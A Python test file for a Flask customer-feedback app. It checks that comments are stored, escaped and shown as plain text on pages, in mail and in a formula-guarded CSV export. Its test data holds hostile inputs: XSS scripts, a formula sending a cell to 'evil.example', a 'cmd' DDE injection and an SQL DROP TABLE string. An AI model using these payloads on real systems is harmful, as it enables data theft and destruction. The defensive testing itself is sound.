"""What customers write is kept as they meant it, and does nothing wherever it is shown."""

import csv
import io
import re
from dataclasses import replace
from datetime import datetime, timedelta
from html.parser import HTMLParser
from pathlib import Path

import pytest
from flask.testing import FlaskClient
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st
from werkzeug.security import generate_password_hash
from werkzeug.test import TestResponse

from feedback.domain.staff import Role
from feedback.domain.surveys import COMMENT_LONGEST, Choice
from feedback.domain.texts import clean, guarded
from feedback.keys import Purpose
from feedback.publish import build
from feedback.publish.build import Sources
from feedback.web import create_app
from tests.conftest import ADA, DAY, NOW, ROOT, Loop, html_of, text_of

LATER = NOW + DAY + timedelta(hours=2)
PASSWORD = "right as rain"
STRANGE = {
    "HTML": "<script>alert(1)</script><img src=x onerror=alert(2)> </textarea><h1>& &amp; &#60;",
    "Markdown": "# heading\n\n[x](javascript:alert(1)) **bold** | a | table |\n|---|\n```\ncode",
    "a template": "{{ 7*7 }} {% raw %} ${7*7} %s %(day)s ~~token~~",
    "control characters": "be\x00fo\x07re\x1b[31m af\x9bter\r\nnext\tline",
    "emoji of four bytes": "🖨️ 👩‍👧 𝔘𝔫𝔦𝔠𝔬𝔡𝔢 é e\u0301",
    "writing turned around": "\u202eevil\u2066 \u202d never ended",
    "Arabic and English": "الطابعة printer لا تعمل",
    "a formula": '=HYPERLINK("http://evil.example?"&A1,"click")',
    "another formula": "@SUM(1+1)*cmd|' /C calc'!A0",
    "a formula in a cell of its own": "hi\n=1+1\n\t@SUM(1)\nx;=2+2; -3",
    "SQL": "'; DROP TABLE answers; --",
    "as long as can be": "🖨" * COMMENT_LONGEST,
}


class Seen(HTMLParser):
    """A page as a browser takes it: the texts of its elements by their class or name, and all tags."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.texts: list[str] = []
        self.tags: list[tuple[str, tuple[str, ...]]] = []
        self.feed(page)

    def handle_starttag(self, tag: str, attributes: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, tuple(name for name, _ in attributes)))

    def handle_data(self, data: str) -> None:
        self.texts.append(data)

    def shows(self, text: str) -> bool:
        return text in "".join(self.texts)


def say_no_with(client: FlaskClient, loop: Loop, comment: str, ref: str = "A-1") -> str:
    """The path of the survey whose customer says no, with this comment."""
    path = f"/s/{loop.keys.sign(Purpose.SURVEY, loop.survey_id(ref))}"
    client.post(path, data={"choice": "no"})
    said = {"choice": "no", "comment": comment, "reasons": "resolve"}
    assert client.post(f"{path}/details", data=said).status_code == 303
    return path


def taken(client: FlaskClient, file: str) -> TestResponse:
    """A file of the desk, by the button below its list."""
    token = re.search(r'name="csrf_token" value="([^"]+)"', client.get("/desk/").text)
    assert token is not None
    return client.post(f"/desk/{file}", data={"csrf_token": token[1]})


def rows_of(client: FlaskClient, query: str = "") -> list[dict[str, str]]:
    """The file of answers, as a program reads it."""
    file = taken(client, f"answers.csv{query}").get_data().decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(file, newline="")))


@pytest.fixture
def client(loop: Loop) -> FlaskClient:
    """Mara's browser, logged in; the customers' pages do not mind."""
    with loop.store.write():
        loop.store.staff.add(
            "mara@acme.example", "Mara", generate_password_hash(PASSWORD, "scrypt:1024:1:1"), Role.OWNER
        )
    now: datetime = LATER
    client = create_app(loop.config, loop.store, loop.keys, lambda: now).test_client()
    token = re.search(r'name="csrf_token" value="([^"]+)"', client.get("/desk/login").text)
    assert token is not None
    login = {"email": "mara@acme.example", "password": PASSWORD, "csrf_token": token[1]}
    assert client.post("/desk/login", data=login).status_code == 303
    loop.take(ADA)
    loop.ask()
    loop.send()
    return client


@pytest.mark.parametrize("comment", STRANGE.values(), ids=STRANGE.keys())
def test_a_strange_comment_is_kept_and_shown_as_text_on_the_page_the_desk_in_mail_and_csv(
    client: FlaskClient, loop: Loop, comment: str
) -> None:
    plain = Seen(client.get(say_no_with(client, loop, "plain")).text).tags
    path = say_no_with(client, loop, comment)
    newest = loop.store.surveys.get(loop.survey_id()).newest
    assert newest is not None
    meant = newest.details.comment
    assert meant == clean(comment)

    page = Seen(client.get(path).text)
    assert page.shows(meant)
    assert page.tags == plain
    (follow_up,) = loop.store.follow_ups.open_ones()
    for address in ("/desk/", f"/desk/follow-ups/{follow_up.id}", "/desk/answers"):
        assert Seen(client.get(address).text).shows(meant)

    loop.send(LATER + timedelta(minutes=1))
    alert = loop.maildir()[-1]
    assert Seen(html_of(alert)).shows(meant)
    quoted = "".join(f"> {line}".rstrip() + "\n" for line in meant.splitlines())
    assert quoted in text_of(alert)

    (row,) = rows_of(client)
    assert row["comment"] == guarded(meant)
    assert not re.search(r"(^|[\n\r\t;])\s*[=+\-@]", row["comment"])


@given(comment=st.text(max_size=200))
@example(comment="\u2028\u2029\x85\ufeff")
@settings(
    max_examples=100, deadline=None, derandomize=True, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
def test_whatever_is_written_is_one_text_of_the_page_and_one_cell_of_the_file(
    client: FlaskClient, loop: Loop, comment: str
) -> None:
    path = say_no_with(client, loop, comment)
    page = Seen(client.get(path).text)
    assert page.shows(clean(comment))
    assert {tag for tag, _ in page.tags} <= {
        "html", "head", "meta", "title", "style", "body", "main", "p", "h1", "h2", "form", "input", "fieldset",
        "legend", "label", "textarea", "div", "button", "script", "footer", "a",
    }  # fmt: skip
    (row,) = rows_of(client)
    assert row["comment"] == guarded(clean(comment))


def test_a_file_of_answers_has_a_row_an_answer_and_names_its_columns(client: FlaskClient, loop: Loop) -> None:
    say_no_with(client, loop, "Still jams")
    answer = taken(client, "answers.csv?choice=no")
    assert answer.get_data().startswith(b"\xef\xbb\xbfanswered_at,answer,")
    assert answer.headers["Content-Disposition"] == "attachment; filename=answers.csv"
    assert answer.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert answer.headers["Cache-Control"] == "no-store"
    (row,) = rows_of(client)
    assert row == {
        "answered_at": LATER.isoformat(),
        "answer": "no",
        "asked_again": "no",
        "reasons": "It took too long, I was passed around, or it still does not work",
        "comment": "Still jams",
        "asks_for_a_call": "no",
        "phone": "",
        "call_time": "",
        "may_be_quoted": "no",
        "quoted_as": "",
        "case": "A-1",
        "subject": "Printer jams on page two",
        "customer": "Ada",
        "email": "Ada@example.org",
        "agent": "Mara",
        "team": "Hardware",
    }
    assert rows_of(client, "?choice=yes") == []


def test_nobody_reads_the_answers_without_logging_in(loop: Loop) -> None:
    client = create_app(loop.config, loop.store, loop.keys, lambda: LATER).test_client()
    page = client.get("/desk/answers")
    assert (page.status_code, page.headers["Location"]) == (303, "/desk/login?then=/desk/answers")
    token = re.search(r'name="csrf_token" value="([^"]+)"', client.get("/desk/login").text)
    assert token is not None
    assert client.post("/desk/answers.csv", data={"csrf_token": token[1]}).status_code == 401


def test_the_published_site_holds_nothing_that_customers_wrote(client: FlaskClient, loop: Loop, tmp_path: Path) -> None:
    records = [replace(ADA, ref=f"r{n}", customer_ref=f"c{n}", email=f"c{n}@example.org") for n in range(len(STRANGE))]
    loop.take(*records)
    loop.ask()
    loop.send()
    for record, comment in zip(records, STRANGE.values(), strict=True):
        say_no_with(client, loop, f"xyzzy {comment[:200]}", record.ref)
    sources = Sources(ROOT / "site", ROOT / "mkdocs.yml", is_default=True)
    site = build.publish(loop.store, loop.config, sources, tmp_path / "out", LATER + 10 * DAY).folder
    files = [path for path in site.rglob("*") if path.is_file()]
    assert len(files) > 10
    assert len(loop.store.surveys.newest_answers(Choice.NO, 99)) == len(STRANGE)
    assert not [path for path in files if b"xyzzy" in path.read_bytes()]
